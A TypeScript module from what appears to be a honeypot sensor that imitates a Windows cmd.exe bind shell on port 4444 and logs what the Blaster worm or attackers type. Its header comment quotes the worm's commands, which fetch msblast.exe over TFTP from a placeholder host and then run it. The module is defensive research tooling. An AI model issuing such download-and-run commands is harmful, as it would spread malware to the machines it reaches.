// Responder for the bind-shell port 4444 (Blaster's exploit opens cmd.exe there; the worm then
// types `tftp -i <host> GET msblast.exe` and `start msblast.exe`). Design choice: we send the text
// banner and prompt cmd.exe would print, because worms and operators type their commands only
// once a shell answers, and those commands are the intelligence; we send nothing else — no command
// output, nothing executable — and never act on what is typed (never fetch, never connect).
// A few reconnaissance commands (dir, ver, whoami, ipconfig) get canned text built from the persona
// (shell-answers.ts), and `exit` closes the connection as cmd.exe does: a bind shell that shrugs at
// them is an easy honeypot tell. Both directions go to the session's transcript.

import type { OsFlavour } from '../sensor-types.js';
import { LIMIT_HIT } from '../sensor-limits.js';
import type { Responder, ResponderContext } from './responder-types.js';
import { shellAnswer } from './shell-answers.js';
import { printableBytes } from '../../core/safe-text.js';

const XP = { banner: 'Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n', prompt: 'C:\\WINDOWS\\system32>' };
export const BANNERS: Record<OsFlavour, { banner: string; prompt: string }> = {
  'windows-nt4-sp6': { banner: 'Microsoft(R) Windows NT(TM)\r\n(C) Copyright 1985-1996 Microsoft Corp.\r\n\r\n', prompt: 'C:\\WINNT\\system32>' },
  'windows-2000-sp4': { banner: 'Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\n', prompt: 'C:\\WINNT\\system32>' },
  'windows-xp-sp1': XP,
  'windows-xp-sp2': XP,
  'windows-2003': { banner: 'Microsoft Windows [Version 5.2.3790]\r\n(C) Copyright 1985-2003 Microsoft Corp.\r\n\r\n', prompt: 'C:\\WINDOWS\\system32>' },
  'windows-7-sp1': { banner: 'Microsoft Windows [Version 6.1.7601]\r\nCopyright (c) 2009 Microsoft Corporation.  All rights reserved.\r\n\r\n', prompt: 'C:\\Windows\\system32>' },
};

/** Printable rendering of peer bytes: ASCII kept, everything else as \xNN so nothing is lost or
 * interpreted (core's, so a capture of this shell yields the same PayloadEvent text as live). */
export const printable = printableBytes;

export function shellResponder(ctx: ResponderContext): Responder {
  const { banner, prompt } = BANNERS[ctx.persona.os];
  const limit = ctx.record.limitsRef.maxPayloadEventChars;
  const speaks = ctx.persona.shellBanner;
  let pending: Buffer[] = [];
  let pendingLen = 0;
  let emittedChars = 0;
  // After `exit` cmd.exe is gone: nothing more is read as a command (the bytes stay in the payload).
  let exited = false;

  const say = (text: string): void => {
    const bytes = Buffer.from(text, 'latin1');
    ctx.record.transcript('out', bytes, ctx.now());
    ctx.send(bytes);
  };

  const emitLine = (line: Buffer): void => {
    ctx.record.transcript('in', line, ctx.now());
    const text = printable(line.subarray(0, Math.max(0, limit - emittedChars)));
    if (line.length > 0 && emittedChars + line.length > limit) ctx.record.hit(LIMIT_HIT.maxPayloadEventChars);
    if (text.length === 0) return;
    emittedChars += Math.min(line.length, limit);
    const f = ctx.record.flow;
    ctx.emit({ type: 'payload', ts: ctx.now(), source: 'sensor', src: f.src, dst: f.dst, proto: 'tcp', sport: f.sport, dport: ctx.basePort, session: ctx.record.id, text });
  };

  const answer = (line: Buffer): void => {
    if (!speaks) return;
    const reply = shellAnswer(line.toString('latin1'), ctx.persona, ctx.record.flow.dst);
    if (reply === 'exit') {
      exited = true;
      ctx.end();
      return;
    }
    say(`${reply}\r\n${prompt}`);
  };

  return {
    start() {
      if (speaks) say(banner + prompt);
    },
    data(chunk) {
      if (exited) return;
      let from = 0;
      for (let i = 0; i < chunk.length && !exited; i++) {
        if (chunk[i] !== 0x0a) continue;
        const piece = chunk.subarray(from, i);
        const line = pendingLen ? Buffer.concat([...pending, piece]) : piece;
        pending = [];
        pendingLen = 0;
        const typed = line[line.length - 1] === 0x0d ? line.subarray(0, line.length - 1) : line;
        emitLine(typed);
        answer(typed);
        from = i + 1;
      }
      // Keep a partial line only up to the text cap: a peer sending no newline cannot grow it.
      if (!exited && from < chunk.length && pendingLen < limit) {
        const rest = Buffer.from(chunk.subarray(from, from + (limit - pendingLen)));
        pending.push(rest);
        pendingLen += rest.length;
      }
    },
    held: () => pendingLen,
    midMessage: () => pendingLen > 0,
    finish() {
      if (pendingLen) emitLine(Buffer.concat(pending));
      pending = [];
      pendingLen = 0;
    },
  };
}
